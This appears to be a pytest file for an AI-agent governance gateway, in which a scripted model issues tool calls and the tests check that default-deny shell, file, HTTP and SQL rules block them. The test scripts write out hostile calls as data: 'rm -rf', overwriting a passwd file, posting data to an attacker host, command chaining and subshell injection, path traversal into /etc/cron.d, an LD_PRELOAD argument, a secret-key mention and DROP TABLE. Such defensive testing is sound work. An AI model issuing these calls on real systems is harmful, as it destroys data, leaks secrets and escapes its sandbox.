"""Every tool governed by default at the 1.0 gateway: the packaged configuration, the documented
shell, file and HTTP rules, and a user's own ``Policy`` loaded by ``agentos-gateway`` from its YAML.

The harness is a user's: an OpenAI client offering four tools, executing every call it receives
(a shell command, a file write, an HTTP post, a SQL statement). Only the model's words are scripted.
"""

from __future__ import annotations

import json
import os
import re
import sqlite3
import subprocess
import sys
from pathlib import Path

import httpx
import pytest
import yaml
from openai import OpenAI

from gateway_services import JSONServer, wait_healthy  # noqa: E402 (the recipes' folder)

import agentlightning.contrib.gateway.agentos as gateway_package
from agentlightning.contrib.gateway.agentos import DECISION_EVENT, create_governed_app
from agentlightning.contrib.gateway.agentos.config import GovernanceConfig
from agentlightning.contrib.kernel.agentos import GovernanceConfigError

from .conftest import MODEL_NAME, RunningGateway, free_port, gateway_config
from .scripted_model import ScriptedModel

DOCS = Path(__file__).resolve().parents[2] / "docs" / "agentlightning-1.0.md"
PACKAGED = Path(gateway_package.__file__).parent / "configs" / "agentos_gateway.yaml"
TOOLS = [
    {"type": "function", "function": {"name": name, "parameters": {"type": "object"}}}
    for name in ("bash", "write_file", "http_post", "run_sql")
]


class ToolHarness:
    """A user's harness: whatever tool call reaches it runs, and is logged first."""

    def __init__(self, base_url: str, sandbox: Path) -> None:
        self.client = OpenAI(base_url=base_url, api_key="none")
        self.sandbox = sandbox
        self.executed: list = []

    def run(self, question: str) -> str:
        reply = self.client.chat.completions.create(
            model=MODEL_NAME, messages=[{"role": "user", "content": question}], tools=TOOLS
        )
        message = reply.choices[0].message
        for call in message.tool_calls or []:
            self.execute(call.function.name, json.loads(call.function.arguments))
        return message.content or ""

    def execute(self, name: str, args: dict) -> None:
        self.executed.append((name, args))
        if name == "bash":
            subprocess.run(args["cmd"], shell=True, cwd=self.sandbox, capture_output=True, timeout=30)
        elif name == "write_file":
            Path(args["path"]).write_text(args.get("content", ""))
        elif name == "http_post":
            httpx.post(args["url"], json=args.get("json"), timeout=5)
        elif name == "run_sql":
            with sqlite3.connect(self.sandbox / "shop.db") as conn:
                conn.execute(args["query"])


def calls(*pairs):
    return [{"name": name, "arguments": json.dumps(args)} for name, args in pairs]


def decisions(gateway, rollout_id):
    return [e["data"] for e in gateway.events(rollout_id) if e["event_type"] == DECISION_EVENT]


@pytest.fixture
def outside():
    """A server standing for a host outside: it records every request that reaches it."""
    received = []
    server = JSONServer(lambda body: received.append(body) or {"ok": True}).start()
    yield server.endpoint, received
    server.stop()


def test_the_packaged_configuration_blocks_every_tool_but_sql(start_gateway, tmp_path, outside):
    outside_url, received = outside
    (tmp_path / "data").mkdir()
    (tmp_path / "data" / "keep.txt").write_text("precious")
    victim = tmp_path / "passwd"
    victim.write_text("root:x:0:0")
    script = {
        "wipe": calls(("bash", {"cmd": f"rm -rf {tmp_path / 'data'}"})),
        "overwrite": calls(("write_file", {"path": str(victim), "content": "owned"})),
        "exfiltrate": calls(("http_post", {"url": f"{outside_url}/collect", "json": {"rows": 10}})),
        "read": calls(("run_sql", {"query": "SELECT 1"})),
        "drop": calls(("run_sql", {"query": "DROP TABLE t"})),
    }
    packaged = GovernanceConfig.from_file(PACKAGED)  # the governance section as the package ships it
    governance = yaml.safe_load(PACKAGED.read_text())["governance"]
    assert [next(iter(p)) for p in packaged.policies] == ["sql", "tool_rules"]
    port = free_port()
    config = gateway_config(port, tmp_path / "audit")
    config["governance"] = {**governance, "recorder_dir": str(tmp_path / "audit")}
    with sqlite3.connect(tmp_path / "shop.db") as conn:
        conn.execute("CREATE TABLE t (x)")
    with ScriptedModel(script) as model:
        gateway = start_gateway(create_governed_app(config))
        gateway.register_model(model.endpoint)
        outcome = {}
        for question in script:
            rollout_id = gateway.new_rollout()
            harness = ToolHarness(gateway.proxy_url(rollout_id), tmp_path)
            text = harness.run(question)
            outcome[question] = (harness.executed, decisions(gateway, rollout_id), text)

    assert (tmp_path / "data" / "keep.txt").read_text() == "precious"
    assert victim.read_text() == "root:x:0:0"
    assert received == []
    for question in ("wipe", "overwrite", "exfiltrate"):
        executed, (decision,), text = outcome[question]
        assert executed == []
        assert decision["blocked"] is True
        assert "has no rule in ToolRulesPolicy, so it is blocked (default deny); to allow it" in decision["reason"]
        assert "was blocked and not executed" in text
    assert outcome["read"][0] == [("run_sql", {"query": "SELECT 1"})]
    assert outcome["drop"][0] == [] and "SQLPolicy[critical]" in outcome["drop"][1][0]["reason"]


def documented(marker: str) -> str:
    """The code block that follows ``marker`` in docs/agentlightning-1.0.md."""
    text = DOCS.read_text(encoding="utf-8")
    match = re.search(re.escape(marker) + r"[^\n]*\n```\w*\n(.*?)```", text, re.S)
    assert match, f"docs/agentlightning-1.0.md has no code block after {marker!r}"
    return match.group(1)


def test_the_documented_shell_file_and_http_rules_and_a_custom_policy_through_agentos_gateway(tmp_path):
    """``agentos-gateway`` started on the documented YAML, as it is, with the documented ``my_policies.py``
    beside it: no launcher, the custom policy loaded from the ``python:`` entry."""
    (tmp_path / "gateway.yaml").write_text(documented("<!-- governed-tools-yaml"))
    (tmp_path / "my_policies.py").write_text(documented("<!-- my-policies-py"))
    (tmp_path / "data").mkdir()
    (tmp_path / "data" / "keep.txt").write_text("precious")
    script = {
        "list": calls(("bash", {"cmd": "ls -la data"})),
        "wipe": calls(("bash", {"cmd": "rm -rf data"})),
        "chain": calls(("bash", {"cmd": "ls data; rm -rf data"})),
        "subshell": calls(("bash", {"cmd": "cat $(rm -rf data)"})),
        "escape": calls(("write_file", {"path": "/srv/agent/files/../../../etc/cron.d/job", "content": "x"})),
        "relative escape": calls(("write_file", {"path": "../../etc/cron.d/job", "content": "x"})),
        "exfiltrate": calls(("http_post", {"url": "https://attacker.example.net/c", "json": {"q": "rows"}})),
        "lookalike": calls(("http_post", {"url": "https://api.example.com@attacker.example.net/", "json": {}})),
        "too many": calls(("http_post", {"url": "https://api.example.com/s", "json": {"q": "x", "limit": 1000}})),
        "extra argument": calls(("bash", {"cmd": "ls", "env": {"LD_PRELOAD": "/tmp/x.so"}})),
        "secret": calls(("http_post", {"url": "https://api.example.com/s", "json": {"q": "aws_secret_access_key"}})),
        "unknown tool": calls(("send_email", {"to": "a@b.c"})),
        "sql": calls(("run_sql", {"query": "SELECT 1"})),
    }
    port = free_port()
    bin_dir = Path(sys.executable).parent
    command = [
        str(bin_dir / "agentos-gateway"),
        "--config-dir",
        str(tmp_path),
        "--config-name",
        "gateway",
        "host=127.0.0.1",
        f"port={port}",
        f"default_proxy.model_name={MODEL_NAME}",
        "default_proxy.include_log_probs=false",
        f"governance.recorder_dir={tmp_path / 'audit'}",
        f"hydra.run.dir={tmp_path / 'hydra'}",
    ]
    with sqlite3.connect(tmp_path / "shop.db"):
        pass
    log = (tmp_path / "gateway.log").open("w")
    process = subprocess.Popen(command, cwd=tmp_path, stdout=log, stderr=subprocess.STDOUT)
    url = f"http://127.0.0.1:{port}"
    try:
        wait_healthy(url, process)
        gateway = RunningGateway.__new__(RunningGateway)  # the client half: the server is the command above
        gateway.url, gateway.headers = url, {}
        with ScriptedModel(script) as model:
            gateway.register_model(model.endpoint)
            outcome = {}
            for question in script:
                rollout_id = gateway.new_rollout()
                harness = ToolHarness(gateway.proxy_url(rollout_id), tmp_path)
                harness.run(question)
                outcome[question] = (harness.executed, decisions(gateway, rollout_id))
        httpx.delete(f"{url}/api/models").raise_for_status()
    finally:
        process.terminate()
        process.wait(timeout=30)
        log.close()

    assert (tmp_path / "data" / "keep.txt").read_text() == "precious"
    allowed = {q for q, (_, ds) in outcome.items() if not any(d["blocked"] for d in ds)}
    assert allowed == {"list", "sql"}, {q: [d["reason"] for d in ds] for q, (_, ds) in outcome.items()}
    assert outcome["list"][0] == [("bash", {"cmd": "ls -la data"})]
    assert all(executed == [] for q, (executed, _) in outcome.items() if q not in allowed)
    reason = {q: ds[0]["reason"] for q, (_, ds) in outcome.items() if q not in allowed}
    assert "does not match the pattern" in reason["wipe"] and "does not match the pattern" in reason["chain"]
    assert "outside the allowed roots ['/srv/agent/files']" in reason["escape"]
    assert "outside the allowed roots" in reason["relative escape"]
    assert "not an allowed host" in reason["exfiltrate"] and "user information" in reason["lookalike"]
    assert "above the maximum 100" in reason["too many"]
    assert "argument 'env' is not declared by the rule" in reason["extra argument"]
    assert "NoSecretsInArguments[critical]: the call mentions aws_secret_access_key" in reason["secret"]
    assert "has no rule in ToolRulesPolicy" in reason["unknown tool"]


def test_a_policy_entry_that_cannot_be_built_stops_the_gateway_naming_it(tmp_path, monkeypatch):
    (tmp_path / "factories.py").write_text(
        "from agentlightning.contrib.kernel.agentos import ToolRulesPolicy\n"
        "def not_a_policy():\n    return 'allow everything'\n"
        "def rules(tools):\n    return [ToolRulesPolicy(tools, name='mine')]\n"
    )
    monkeypatch.syspath_prepend(str(tmp_path))

    def build(entry):
        return GovernanceConfig.from_mapping({"recorder_dir": str(tmp_path), "policies": [entry]})

    not_a_policy = r"policies\[0\]\.python: factories:not_a_policy returned \['str'\]"
    with pytest.raises(GovernanceConfigError, match=not_a_policy):
        build({"python": "factories:not_a_policy"})
    with pytest.raises(GovernanceConfigError, match=r"cannot load 'no_such_module'"):
        build({"python": "no_such_module:make"})
    with pytest.raises(GovernanceConfigError, match=r"expected 'module:factory'"):
        build({"python": "factories.rules"})
    with pytest.raises(GovernanceConfigError, match=r"policies\[0\]\.tool_rules: .*type is required"):
        build({"tool_rules": {"tools": {"bash": {"args": {"cmd": {}}}}}})
    made = build({"python": {"factory": "factories:rules", "options": {"tools": {"run_sql": {}}}}})
    assert [p.name for p in made.build_policies()] == ["mine"]
    assert os.path.isfile(PACKAGED)
